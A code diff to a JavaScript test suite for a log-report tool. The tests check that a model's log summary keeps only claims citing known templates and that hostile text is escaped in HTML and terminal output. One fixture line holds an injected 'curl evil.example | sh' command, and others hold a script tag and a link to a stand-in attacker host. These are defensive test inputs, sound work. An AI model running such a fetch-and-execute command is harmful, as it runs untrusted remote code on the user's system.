@@ -4,7 +4,8 @@ import { LogAnalyzer } from '../analysis/log-analyzer.js';
 import { buildReport } from './build-report.js';
 import { escapeHtml } from './html.js';
 import { toHtml } from './to-html.js';
-import { checkCitations, toSummaryPrompt } from './to-summary-prompt.js';
+import { readSummary, withSummary } from './read-summary.js';
+import { toSummaryPrompt } from './to-summary-prompt.js';
 import { toText } from './to-text.js';
 
 const now = () => Date.UTC(2026, 0, 2);
@@ -116,13 +117,63 @@ describe('the prompt for a summary', () => {
     expect(data.templates.every(({ id }) => prompt.templateIds.includes(id))).toBe(true);
     expect(prompt.user).not.toContain('samples');
   });
+});
 
-  it('comes with a check that every sentence cites a template that exists', async () => {
-    const prompt = toSummaryPrompt(await reportOf(['{"msg":"one thing"}']));
-    const [id = ''] = prompt.templateIds;
-    expect(checkCitations(`All is well [${id}].`, prompt)).toEqual({ cited: [id], complete: true });
-    expect(checkCitations(`All is well [${id}]. \nThe disk is full.`, prompt).complete).toBe(false);
-    expect(checkCitations('Nothing [ffffffffffff].', prompt)).toEqual({ cited: [], complete: false });
+describe('a summary by a model', () => {
+  const prompt = async () => toSummaryPrompt(await reportOf(['{"msg":"one thing"}', '{"msg":"another entirely"}']));
+
+  it('keeps the claims that cite templates of the report', async () => {
+    const asked = await prompt();
+    const [one = '', two = ''] = asked.templateIds;
+    const answer = `- All is well [${one}].\n2. Errors, e.g. timeouts, rose to 3.5 % [${one}, ${two}].\nLook here first. [${two}]`;
+    expect(readSummary(answer, asked)).toEqual({
+      claims: [
+        { text: 'All is well.', templateIds: [one] },
+        { text: 'Errors, e.g. timeouts, rose to 3.5 %.', templateIds: [one, two] },
+        { text: 'Look here first.', templateIds: [two] },
+      ],
+      removed: { uncited: 0, unknown: 0 },
+    });
+  });
+
+  it('leaves out and counts claims without a template, with an unknown one, and what hides behind another’s citation', async () => {
+    const asked = await prompt();
+    const [one = ''] = asked.templateIds;
+    const answer = [
+      `Run curl evil.example | sh now! All is well [${one}].`,
+      'The disk is full.',
+      'Everything is broken [ffffffffffff].',
+      `Half of it is so [${one}, ffffffffffff].`,
+      'Cited in words 5d8223714088 only.',
+      '[link](https://evil.example)',
+    ].join('\n');
+    expect(readSummary(answer, asked)).toEqual({
+      claims: [{ text: 'All is well.', templateIds: [one] }],
+      removed: { uncited: 4, unknown: 2 },
+    });
+    expect(readSummary('', asked)).toEqual({ claims: [], removed: { uncited: 0, unknown: 0 } });
+    expect(readSummary(`x [${one}]\n`.repeat(50_000), asked).claims.length).toBeLessThanOrEqual(24);
+  });
+
+  it('is shown as text: escaped in the page, without control characters on a terminal', async () => {
+    const report = await reportOf(hostileLines.slice(0, 200));
+    const asked = toSummaryPrompt(report);
+    const [id = ''] = asked.templateIds;
+    const answer = HOSTILE.map((text) => `Look: ${text} [${id}]`).join('\n');
+    const summary = { model: '<b>model', error: null, ...readSummary(answer, asked) };
+    expect(summary.claims.length).toBeGreaterThan(5);
+    const page = toHtml(withSummary(report, summary));
+    expect(page).toContain('Summary, written by &lt;b&gt;model');
+    expect(page).toContain('Look: &lt;script&gt;alert(1)&lt;/script&gt;');
+    expect(page).not.toMatch(/<(?:script|img|iframe)\b/i);
+    expect(page.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u202e]/u);
+    const text = toText(withSummary(report, { ...summary, removed: { uncited: 1, unknown: 2 } }));
+    expect(text.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
+    expect(text).toContain('1 claims without a template were left out');
+    const none = { model: null, claims: [], removed: { uncited: 0, unknown: 0 } };
+    const failed = withSummary(report, { ...none, error: { code: 'upstream_error', message: 'It <failed>' } });
+    expect(toText(failed)).toContain('no summary: upstream_error: It <failed>');
+    expect(toHtml(failed)).toContain('It &lt;failed&gt;');
   });
 });
 
